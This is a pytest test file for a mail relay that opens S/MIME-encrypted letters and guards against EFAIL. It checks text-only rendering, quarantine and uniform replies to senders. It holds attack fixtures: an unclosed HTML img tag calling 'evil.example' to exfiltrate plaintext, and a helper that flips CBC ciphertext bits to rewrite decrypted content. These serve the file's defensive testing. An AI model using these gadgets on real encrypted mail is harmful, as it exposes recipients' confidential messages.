"""Encrypted letters: what is opened, what is shown of it, and what stays closed."""

from __future__ import annotations

import asyncio
import base64
import email
import email.policy
import json
import subprocess
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field, replace
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from aiosmtpd.lmtp import LMTP
from aiosmtpd.smtp import SMTP, Envelope, Session

from certs import envelope
from certs.chain import TrustStore
from certs.envelope import Recipe
from certs.keys import KeeperDown, KeeperRefused
from certs.openers import LocalOpener, Opener
from certs.throwaway import Issued, Pki, Shape
from relay import canonical, coverage, opening, smime, spool
from relay.couriers.mailbox import MailboxCourier
from relay.couriers.opening import OpenedFor, OpeningCourier, Unsealer
from relay.journal import SpoolJournal
from relay.message import Message, scan
from relay.model import (
    Done,
    Event,
    Extra,
    Findings,
    Job,
    Later,
    Letter,
    Mode,
    Outcome,
    Quarantined,
    Reason,
    Recipient,
    Route,
    SignatureState,
    Signer,
    State,
    Verdict,
)
from relay.opening import Opening, Shown
from relay.scan import CannotScan, Clean, Infected, Scanned, Scanning, Unable
from relay.warning import AS_TEXT, AS_WARNING

FROM = "marie.martin@lilas.mssante.example"
TO = "paul.durand@parc.mssante.example"
CBC = Recipe(content="aes-256-cbc", transport="pkcs1v15")
GCM = Recipe()
HTML = "<p>bonjour <img src='http://evil.example/"
Mail = Callable[..., bytes]


@pytest.fixture(scope="module")
def mailbox(pki: Pki) -> Issued:
    return pki.smime(FROM, "Marie MARTIN", "IMAGERIE DES LILAS", "1750000001")


@pytest.fixture(scope="module")
def opener(reader: Issued) -> Opener:
    return LocalOpener(reader.der, reader.key)


@pytest.fixture
def raw(make_mail: Mail) -> bytes:
    return make_mail("Bonjour,\nvoici l'archive.\n", (("IHE_XDM.zip", "application/zip", b"PK\x03\x04"),))


@pytest.fixture
def signed(raw: bytes, mailbox: Issued, today: datetime) -> bytes:
    return smime.sign(raw, mailbox.signer(), today)


@pytest.fixture
def opens(trust: TrustStore, today: datetime, opener: Opener) -> Callable[..., Opening | None]:
    def look(letter: bytes, *openers: Opener) -> Opening | None:
        return opening.opened(scan(letter), Verdict(), openers or (opener,), trust, today)

    return look


def parts_of(letter: bytes) -> list[str]:
    return [part.type for part in scan(letter).parts]


# --- what is opened -----------------------------------------------------------------------------------------


def test_a_sealed_letter_is_opened_with_its_header_outside(
    raw: bytes, reader: Issued, opens: Callable[..., Any]
) -> None:
    """GCM vouches for the content: the outer fields stay, the inner entity is the letter, nothing is signed."""
    closed = smime.encrypt(raw, [reader.der])
    assert scan(closed).root.params["smime-type"] == "authEnveloped-data"
    assert b"IHE_XDM" not in closed
    found = opens(closed)
    assert (found.shown, found.algorithm) == (Shown.OPENED, "aes-256-gcm")
    assert found.verdict.signature is SignatureState.NONE
    message = scan(found.letter)
    assert message.value("Subject") == scan(raw).value("Subject")
    assert [part.filename for part in message.parts] == ["", "", "IHE_XDM.zip"]
    assert message.parts[-1].decode() == b"PK\x03\x04"


@pytest.mark.parametrize("recipe", [GCM, CBC])
def test_the_signature_inside_is_judged_again(
    signed: bytes, reader: Issued, opens: Callable[..., Any], recipe: Recipe
) -> None:
    """Signed, then encrypted: whatever the cipher, a valid signature over all of it vouches for the content."""
    found = opens(smime.encrypt(signed, [reader.der], recipe))
    assert found.shown is Shown.OPENED
    assert (found.verdict.signature, found.verdict.signer) == (SignatureState.VALID, Signer.MAILBOX)
    assert len(found.verdict.evidence) == 1


def test_openssl_reads_what_we_encrypt(raw: bytes, reader: Issued, tmp_path: Path) -> None:
    """The other reader, with GCM and OAEP; the archive is inside."""
    certificate, key = reader.write(tmp_path, "reader")
    (tmp_path / "letter.eml").write_bytes(smime.encrypt(raw, [reader.der]))
    command = ["openssl", "cms", "-decrypt", "-in", str(tmp_path / "letter.eml"), "-recip", str(certificate)]
    read = subprocess.run([*command, "-inkey", str(key)], capture_output=True, check=True).stdout
    assert scan(read).parts[-1].filename == "IHE_XDM.zip"


def test_bcc_has_a_letter_of_its_own(raw: bytes, reader: Issued, pki: Pki, opens: Callable[..., Any]) -> None:
    """Nobody sees in his letter that a hidden reader has one, nor can open the other's."""
    hidden = replace_key(pki, reader)
    copy = raw.replace(b"To: ", b"Bcc: secret@parc.mssante.example\r\nTo: ", 1)
    shared, apart = smime.encrypt_apart(copy, [reader.der], [hidden.der])
    assert b"secret@parc" not in shared + apart
    other = LocalOpener(hidden.der, hidden.key)
    assert (opens(shared).shown, opens(shared, other)) == (Shown.OPENED, None)
    assert (opens(apart), opens(apart, other).shown) == (None, Shown.OPENED)


def replace_key(pki: Pki, like: Issued) -> Issued:
    """Another certificate of the same shape."""
    return pki.issue(like.certificate.subject, Shape(usage=frozenset({"key_encipherment"})))


def test_without_a_key_of_ours_nothing_happens(raw: bytes, reader: Issued, pki: Pki, opens: Callable[..., Any]) -> None:
    """Encrypted to somebody else's certificate: not ours to open, and no failure."""
    other = replace_key(pki, reader)
    assert opens(smime.encrypt(raw, [other.der])) is None


def test_a_signature_around_a_closed_letter(
    signed: bytes, reader: Issued, mailbox: Issued, trust: TrustStore, today: datetime, opener: Opener
) -> None:
    """RFC 2634 §1.1: the letter inside is opened and judged; where the outer signature fails, nothing is opened."""
    wrapped = smime.sign(smime.encrypt(signed, [reader.der], CBC), mailbox.signer(), today)
    message = scan(wrapped)
    outer = smime.judge(message, trust, today)
    found = opening.opened(message, outer, [opener], trust, today)
    assert found is not None
    assert (outer.signature, found.shown, found.verdict.signature) == (
        SignatureState.VALID,
        Shown.OPENED,
        SignatureState.VALID,
    )
    spoilt = scan(altered(wrapped, 0.2))
    failed = smime.judge(spoilt, trust, today)
    assert failed.signature is SignatureState.INVALID
    assert opening.opened(spoilt, failed, [opener], trust, today) is None


def test_a_signature_around_is_no_word_for_the_content(
    raw: bytes, reader: Issued, mailbox: Issued, trust: TrustStore, today: datetime, opener: Opener
) -> None:
    """EFAIL: whoever changes the ciphertext may sign it anew; only what is inside vouches."""
    message = scan(smime.sign(smime.encrypt(raw, [reader.der], CBC), mailbox.signer(), today))
    outer = smime.judge(message, trust, today)
    found = opening.opened(message, outer, [opener], trust, today)
    assert found is not None
    assert (outer.signature, found.shown) == (SignatureState.VALID, Shown.TEXT_ONLY)


# --- EFAIL --------------------------------------------------------------------------------------------------


def test_cbc_without_a_signature_is_text_only(raw: bytes, reader: Issued, opens: Callable[..., Any]) -> None:
    """CVE-2017-17688, -17689: nobody vouches for it; its text alone is shown, and its parts are never handed on."""
    closed = smime.encrypt(raw, [reader.der], CBC)
    found = opens(closed)
    assert (found.shown, found.letter) == (Shown.TEXT_ONLY, closed)
    assert "voici l'archive" in found.text
    assert "smime.unauthenticated" in found.verdict.findings


@pytest.mark.parametrize("broken", ["altered", "partial", "another-address"])
def test_cbc_with_a_signature_that_does_not_hold_for_all_is_text_only(
    signed: bytes, reader: Issued, pki: Pki, raw: bytes, today: datetime, opens: Callable[..., Any], broken: str
) -> None:
    """Only VALID vouches: not a signature that is false, nor one over a part, nor a stranger's."""
    stranger = pki.smime("x@ailleurs.example", "X", "AILLEURS", "1750000009")
    inner = signed[signed.index(b"Content-Type: multipart/signed") :]
    letters = {
        "altered": signed.replace(b"voici", b"voila"),
        "partial": b"From: " + FROM.encode() + b"\r\nContent-Type: multipart/mixed; boundary=o\r\n\r\n"
        b"--o\r\nContent-Type: text/html\r\n\r\n" + HTML.encode() + b"\r\n--o\r\n" + inner + b"\r\n--o--\r\n",
        "another-address": smime.sign(raw, stranger.signer(), today),
    }
    found = opens(smime.encrypt(letters[broken], [reader.der], CBC))
    assert found.shown is Shown.TEXT_ONLY
    assert found.verdict.signature is not SignatureState.VALID


def test_without_the_check_cbc_would_be_rendered(
    raw: bytes, reader: Issued, opens: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The twin that shows which check holds it back."""
    monkeypatch.setattr(opening, "may_be_rendered", lambda answer, verdict: True)
    assert opens(smime.encrypt(raw, [reader.der], CBC)).shown is Shown.OPENED


def test_the_text_shown_is_text_alone(make_mail: Mail) -> None:
    """No HTML, no control characters, no attachment; a letter without text shows none."""
    text = make_mail("un\x1b[31m deux\n")
    assert opening.text_of(scan(text)).splitlines() == ["un [31m deux"]
    html = b"Content-Type: text/html\r\n\r\n" + HTML.encode()
    assert opening.text_of(scan(html)) == ""
    attached = b"Content-Type: text/plain\r\nContent-Disposition: attachment\r\n\r\nx\r\n"
    assert opening.text_of(scan(attached)) == ""
    strange = b"Content-Type: text/plain; charset=unheard-of\r\n\r\nbonjour"
    assert opening.text_of(scan(strange)) == "bonjour"
    latin = b"Content-Type: text/plain; charset=iso-8859-1\r\n\r\n\xe9t\xe9"
    assert opening.text_of(scan(latin)) == "été"


AES_256_CBC = bytes.fromhex("060960864801650304012a0410")
"""The algorithm as it stands before its IV."""


def rewritten(closed: bytes, spot: int, change: bytes) -> bytes:
    """EFAIL's gadget: a block of ciphertext, or the IV (block -1), changed so that the plaintext after it changes."""
    data = bytearray(scan(closed).root.decode())
    iv = data.index(AES_256_CBC) + len(AES_256_CBC)
    content = data.index(b"\x80", iv + 16)
    start = iv if spot < 0 else content + 4 + 16 * spot
    for at, bit in enumerate(change):
        data[start + at] ^= bit
    head = closed[: closed.index(b"\r\n\r\n") + 4]
    return head + base64.encodebytes(bytes(data)).replace(b"\n", b"\r\n")


def test_a_rewritten_block_is_never_rendered(
    raw: bytes, signed: bytes, reader: Issued, opens: Callable[..., Any]
) -> None:
    """Each block of the content flipped in turn, signed inside or not: never shown as itself, so never filed."""
    content = canonical.content(scan(signed))
    first = content.index(b"\r\n--pli-") // 16 + 5  # what lies before is over nothing that is shown
    for letter, spots in ((raw, range(-1, 20)), (signed, range(first, first + 20))):
        closed = smime.encrypt(letter, [reader.der], CBC)
        assert opens(closed) is not None
        shown = [found.shown for found in (opens(rewritten(closed, spot, b"\x01")) for spot in spots) if found]
        assert set(shown) <= {Shown.TEXT_ONLY, Shown.CLOSED}
        assert Shown.TEXT_ONLY in shown


def test_a_known_beginning_turned_into_another_is_text_only(
    raw: bytes, reader: Issued, opens: Callable[..., Any]
) -> None:
    """The IV lets an attacker write the first sixteen bytes as he likes: and nothing is drawn."""
    known, wanted = b"Content-Type: mu", b"Content-Type: xu"
    change = bytes(a ^ b for a, b in zip(known, wanted, strict=True))
    closed = smime.encrypt(raw, [reader.der], CBC)
    found = opens(rewritten(closed, -1, change))
    assert (found.shown, found.text) == (Shown.TEXT_ONLY, "")
    assert opens(closed).text != ""


def test_an_encrypted_part_is_never_merged(raw: bytes, reader: Issued, opens: Callable[..., Any]) -> None:
    """EFAIL's direct exfiltration: HTML around an encrypted part. It is not even opened."""
    closed = smime.encrypt(raw, [reader.der])
    part = closed[closed.index(b"Content-Type: application/pkcs7-mime") :]
    html = b"--o\r\nContent-Type: text/html\r\n\r\n" + HTML.encode() + b"\r\n--o\r\n"
    letter = f"From: {FROM}\r\nContent-Type: multipart/mixed; boundary=o\r\n\r\n".encode() + html + part + b"\r\n--o--"
    assert opens(letter) is None


# --- what does not open -------------------------------------------------------------------------------------


def altered(closed: bytes, at: float) -> bytes:
    """One letter of the base64 changed, at a share of its length."""
    head, _, body = closed.partition(b"\r\n\r\n")
    spot = next(i for i in range(int(len(body) * at), len(body)) if body[i : i + 1].isalpha())
    other = b"B" if body[spot : spot + 1] != b"B" else b"C"
    return head + b"\r\n\r\n" + body[:spot] + other + body[spot + 1 :]


@pytest.mark.parametrize("recipe", [GCM, CBC])
def test_what_does_not_open_has_one_answer(
    raw: bytes, reader: Issued, opens: Callable[..., Any], recipe: Recipe
) -> None:
    """A changed key, a changed end, in the middle: closed or text only, the same words, the bytes as they came."""
    closed = smime.encrypt(raw, [reader.der], recipe)
    answers = [opens(altered(closed, at)) for at in (0.3, 0.6, 0.97)]
    told = [each for each in answers if each is not None and each.shown is Shown.CLOSED]
    assert told
    assert {(each.verdict, each.algorithm, each.text) for each in told} == {
        (Verdict(findings=("smime.not-opened",)), "", "")
    }
    assert all(each is None or each.shown is not Shown.OPENED for each in answers)


def test_content_that_no_server_would_take_is_no_letter(reader: Issued, opens: Callable[..., Any]) -> None:
    """A late refusal by the mailbox server would be an answer to the sender; line ends are mended where they can be."""

    def letter(content: bytes) -> bytes:
        head = b"From: " + FROM.encode() + b"\r\nContent-Type: application/pkcs7-mime\r\n"
        data = base64.encodebytes(envelope.encrypt(content, [reader.der])).replace(b"\n", b"\r\n")
        return head + b"Content-Transfer-Encoding: base64\r\n\r\n" + data

    mended = opens(letter(b"Content-Type: text/plain\n\nbonjour\n"))
    assert mended.shown is Shown.OPENED
    assert scan(mended.letter).root.decode().split() == [b"bonjour"]
    assert opens(letter(b"no header\0\n\nx")).shown is Shown.CLOSED
    bare = b"Content-Type: multipart/signed; boundary=b\r\n\r\n--b\r\n\r\nx\n\r\n--b--\r\n"
    assert opens(letter(bare)).shown is Shown.CLOSED


# --- the couriers -------------------------------------------------------------------------------------------


@dataclass
class Keeper:
    """Keys in this process; what it is asked, and how it fails."""

    keys: dict[str, tuple[Opener, ...]]
    fails: Exception | None = None

    def openers_for(self, addresses: Sequence[str], letter_id: str) -> Sequence[Opener]:
        if self.fails:
            raise self.fails
        return [each for address in addresses for each in self.keys.get(address, ())]


@dataclass
class Box:
    """A real LMTP server's memory: recipient and bytes."""

    letters: list[tuple[str, bytes]] = field(default_factory=list)

    async def handle_DATA(self, server: SMTP, session: Session, envelope: Envelope) -> str:  # noqa: N802
        assert isinstance(envelope.original_content, bytes)
        self.letters += [(each, envelope.original_content) for each in envelope.rcpt_tos]
        return "250 2.0.0 kept"


@dataclass
class Bench:
    store: Any
    box: Box
    keeper: Keeper
    courier: OpeningCourier
    waiting: list[str]
    today: datetime
    make_letter: Callable[..., Any]

    def job(self, raw: bytes, *names: str, reason: str = "") -> Job:
        letter, _ = self.make_letter("L1", sender=FROM)
        route = Route(Mode.MAILBOX, "lmtp", "mailbox-here")
        rows = [
            Recipient(f"L1-{each}", "L1", "lilas", f"{each}@parc.mssante.example", route, State.QUEUED, reason=reason)
            for each in names or ("paul.durand",)
        ]
        spool.keep(self.store.client, letter, [replace(row, reason="") for row in rows], [Event("accepted", "L1")])
        return Job(replace(letter, verdict=Verdict(), received_at=self.today), tuple(rows), lambda: raw, 1)

    def events(self) -> list[tuple[str, dict[str, str]]]:
        steps = spool.timeline(self.store.reader, "lilas", "L1")
        return [(step.event, dict(step.facts)) for step in steps if "opened" in step.event]

    def only(self) -> email.message.EmailMessage:
        ((_, data),) = self.box.letters
        parsed = email.message_from_bytes(data, policy=email.policy.default)
        assert isinstance(parsed, email.message.EmailMessage)
        return parsed


def finds_archives(message: Message, envelope: Any, verdict: Verdict) -> Findings:
    """A finder as dmp_bridge has one, by name only."""
    there = any(part.filename == "IHE_XDM.zip" for part in message.parts)
    extra = Extra("dossier:region", Route(Mode.DOSSIER_SHOW, "region", "candidates.xdm"), "xdm")
    return Findings(extras=(extra,) if there else ())


def refuses_archives(message: Message, envelope: Any, verdict: Verdict) -> Findings:
    there = any(part.filename == "IHE_XDM.zip" for part in message.parts)
    return Findings(refusals=tuple((each.address, "virus") for each in envelope.addressees) if there else ())


@pytest.fixture
def bench(
    store: Any,
    make_letter: Callable[..., Any],
    serve: Callable[[Callable[[], asyncio.Protocol]], int],
    trust: TrustStore,
    today: datetime,
    opener: Opener,
) -> Bench:
    box = Box()
    waiting: list[str] = []
    keeper = Keeper({TO: (opener,)})
    port = serve(lambda: LMTP(box))
    courier = OpeningCourier(
        mailbox=MailboxCourier("127.0.0.1", port, "mss.parc.example", lambda: today, command_s=10.0),
        unsealer=Unsealer(keeper, lambda: trust),
        finders=(finds_archives,),
        client=store.client,
        journal=SpoolJournal(store.client),
        clock=store.clock,
        wait=lambda letter, reason: waiting.append(reason),
    )
    return Bench(store, box, keeper, courier, waiting, today, make_letter)


def rows(bench: Bench) -> list[str]:
    held = spool.letter(bench.store.reader, "lilas", "L1")
    assert held is not None
    return sorted(row.address for row in held[1])


def test_opened_and_delivered_with_its_archive_found(bench: Bench, signed: bytes, reader: Issued) -> None:
    """The reader has the letter in clear, marked; the journal says how; the archive inside gains a dossier row."""
    outcomes = bench.courier.deliver(bench.job(smime.encrypt(signed, [reader.der])))
    assert [type(each) for each in outcomes.values()] == [Done]
    shown = bench.only()
    assert (shown["X-Pli-Opened"], shown["X-Pli-Signature"], shown["X-Pli-Signer"]) == (
        "aes-256-gcm",
        "valid",
        "mailbox",
    )
    assert shown["X-Pli-Words"].startswith("Lettre chiffrée, ouverte à son arrivée. Signé par Marie MARTIN")
    assert shown.get_content_type() == "multipart/signed"
    ((name, facts),) = bench.events()
    assert (name, facts["shown"], facts["algorithm"], facts["signature"]) == (
        "opened",
        "opened",
        "aes-256-gcm",
        "valid",
    )
    (evidence,) = json.loads(facts["evidence"])
    assert (evidence["answer"], len(evidence["chain"])) == ("trusted", 3)
    assert rows(bench) == ["dossier:region", TO]


def test_what_nobody_vouches_for_arrives_as_text(bench: Bench, raw: bytes, reader: Issued) -> None:
    """EFAIL: a warning letter with plain text, the closed original enclosed; no finder runs, nothing is filed."""
    closed = smime.encrypt(raw, [reader.der], CBC)
    (outcome,) = bench.courier.deliver(bench.job(closed)).values()
    assert isinstance(outcome, Done)
    assert outcome.note == AS_TEXT
    shown = bench.only()
    assert shown["X-Pli-Warning"] == "content-unauthenticated"
    assert shown["Subject"].startswith("[CONTENU NON GARANTI]")
    text, original = shown.iter_parts()
    assert "voici l'archive" in text.get_content()
    assert text.get_content_type() == "text/plain"
    assert original.get_content_type() == "message/rfc822"
    assert parts_of(bench.box.letters[0][1]) == ["multipart/mixed", "text/plain", "message/rfc822"]
    assert scan(bench.box.letters[0][1]).parts[2].body == closed
    assert rows(bench) == [TO]


def test_a_letter_that_does_not_open_is_delivered_closed(bench: Bench, raw: bytes, reader: Issued) -> None:
    """The same Done as for any letter, marked for its reader; nothing for the sender to learn from."""
    closed = altered(smime.encrypt(raw, [reader.der]), 0.9)
    (outcome,) = bench.courier.deliver(bench.job(closed)).values()
    assert isinstance(outcome, Done)
    assert outcome.reference.startswith("250")
    shown = bench.only()
    assert (shown["X-Pli-Opened"], shown["X-Pli-Findings"]) == ("no", "smime.not-opened")
    assert shown.get_content_type() == "application/pkcs7-mime"
    assert bench.events() == [("not-opened", {})]


def test_the_answer_to_the_sender_is_the_same_whether_it_opens_or_not(
    bench: Bench, raw: bytes, reader: Issued, pki: Pki
) -> None:
    """USENIX Security 2023: opened, closed, text only or not for us, delivery ends in the same way."""
    good = smime.encrypt(raw, [reader.der])
    other = smime.encrypt(raw, [replace_key(pki, reader).der])
    letters = [good, altered(good, 0.9), smime.encrypt(raw, [reader.der], CBC), other]
    answers: list[Outcome] = []
    for letter in letters:
        answers += bench.courier.deliver(bench.job(letter)).values()
    assert {(type(each), getattr(each, "reference", "")) for each in answers} == {(Done, "250 2.0.0 kept")}


def test_each_mailbox_by_its_own_key(bench: Bench, raw: bytes, reader: Issued) -> None:
    """Of two mailboxes one has the key: the other's copy stays closed, and is not called a failure."""
    bench.courier.deliver(bench.job(smime.encrypt(raw, [reader.der]), "paul.durand", "anne"))
    kinds = {to: scan(data).root.type for to, data in bench.box.letters}
    assert kinds == {TO: "multipart/mixed", "anne@parc.mssante.example": "application/pkcs7-mime"}


def test_a_keeper_that_is_down_delays_everybody(bench: Bench, raw: bytes, reader: Issued) -> None:
    """Nothing is handed over before all keys were asked, so that nothing is delivered twice."""
    bench.keeper.fails = KeeperDown("x")
    with pytest.raises(KeeperDown):
        bench.courier.deliver(bench.job(smime.encrypt(raw, [reader.der])))
    assert bench.box.letters == []


def test_what_a_finder_refuses_waits_for_a_person(bench: Bench, raw: bytes, reader: Issued) -> None:
    """Quarantine and a line on the work list; no mail, no row, no word to the sender; released, it is delivered."""
    courier = replace(bench.courier, finders=(refuses_archives, finds_archives))
    closed = smime.encrypt(raw, [reader.der])
    assert list(courier.deliver(bench.job(closed)).values()) == [Quarantined("virus")]
    assert (bench.box.letters, bench.waiting, rows(bench)) == ([], ["virus"], [TO])
    (outcome,) = courier.deliver(bench.job(closed, reason="virus")).values()
    assert isinstance(outcome, Done)
    assert len(bench.box.letters) == 1


def test_a_finder_that_fails_is_quarantine(bench: Bench, raw: bytes, reader: Issued) -> None:
    """Never a late refusal: what nobody could look at waits for a person."""

    def falls(message: Message, envelope: Any, verdict: Verdict) -> Findings:
        raise ZeroDivisionError

    courier = replace(bench.courier, finders=(falls,))
    assert list(courier.deliver(bench.job(smime.encrypt(raw, [reader.der]))).values()) == [Quarantined("surprise")]


def test_what_is_opened_is_scanned(bench: Bench, raw: bytes, reader: Issued) -> None:
    """A virus that no door could see waits for a person; a scanner that is down delays; a clean letter says so."""
    asked: list[bytes] = []

    def scans(answer: Scanned) -> OpeningCourier:
        def look(data: bytes) -> Scanned:
            asked.append(data)
            return answer

        return replace(bench.courier, scanning=Scanning(look))

    closed = smime.encrypt(raw, [reader.der])
    answers = [
        next(iter(scans(answer).deliver(bench.job(closed)).values()))
        for answer in (Infected("Eicar", "x"), CannotScan(Unable.DOWN), Clean("x"))
    ]
    assert answers[:2] == [Quarantined(Reason.INFECTED), Later(Reason.SCAN_UNABLE)]
    assert isinstance(answers[2], Done)
    assert (bench.waiting, len(bench.box.letters)) == ([Reason.INFECTED], 1)
    assert all(b"IHE_XDM" in data for data in asked)
    scans(Infected("Eicar", "x")).deliver(bench.job(altered(closed, 0.9)))
    assert len(asked) == 3


def test_a_failed_signature_inside_is_a_warning(bench: Bench, signed: bytes, reader: Issued) -> None:
    """What the cipher vouches for may still be falsely signed: not as itself, and marked."""
    closed = smime.encrypt(signed.replace(b"voici", b"voila"), [reader.der])
    (outcome,) = bench.courier.deliver(bench.job(closed)).values()
    assert isinstance(outcome, Done)
    assert outcome.note == AS_WARNING
    assert bench.only()["X-Pli-Warning"] == "signature-invalid; fault=digest-mismatch"


def test_a_letter_that_is_not_encrypted_asks_no_key(bench: Bench, signed: bytes) -> None:
    """The twin: it passes, signature and all."""
    bench.keeper.fails = KeeperDown("not asked")
    bench.courier.deliver(bench.job(signed))
    assert bench.box.letters[0][1].endswith(signed)
    assert bench.events() == []


def test_a_key_taken_away_meanwhile_does_not_open(bench: Bench, raw: bytes, reader: Issued) -> None:
    """KeeperRefused in the middle is one more way not to open."""

    @dataclass(frozen=True)
    class Gone:
        certificate: bytes

        def transport(self, *asked: object) -> bytes:
            raise KeeperRefused("no such key")

        def agree(self, point: bytes) -> bytes:
            raise KeeperRefused("no such key")

    bench.keeper.keys = {TO: (Gone(reader.der),)}
    bench.courier.deliver(bench.job(smime.encrypt(raw, [reader.der])))
    assert bench.only()["X-Pli-Opened"] == "no"


def test_the_dossier_is_handed_what_the_cipher_vouches_for(
    bench: Bench, raw: bytes, reader: Issued, trust: TrustStore
) -> None:
    """By the keys of the letter's mailboxes: opened under GCM, closed under CBC, where nothing is found in it."""
    seen: list[list[str]] = []

    @dataclass(frozen=True)
    class Dossier:
        def deliver(self, job: Job) -> dict[str, Outcome]:
            seen.append([part.filename for part in scan(job.raw()).parts if part.filename])
            return {each.id: Later("x") for each in job.recipients}

    def mailboxes(letter: Letter) -> list[str]:
        return [TO]

    courier = OpenedFor(Dossier(), bench.courier.unsealer, mailboxes)
    for recipe in (GCM, CBC):
        courier.deliver(bench.job(smime.encrypt(raw, [reader.der], recipe)))
    assert seen == [["IHE_XDM.zip"], ["smime.p7m"]]


def test_nothing_but_the_header_is_read_of_a_letter_that_is_not_encrypted(make_mail: Mail) -> None:
    """The way of most letters stays short."""
    assert not opening.may_be_encrypted(make_mail())
    assert opening.may_be_encrypted(b"Content-Type: application/pkcs7-mime\r\n\r\n")
    # no type at all is read as octets, whose name may say what they are
    assert opening.may_be_encrypted(b'Content-Type: "\r\nContent-Disposition: attachment; filename=smime.p7m\r\n\r\n')
    assert coverage.encrypted(scan(make_mail())) is None
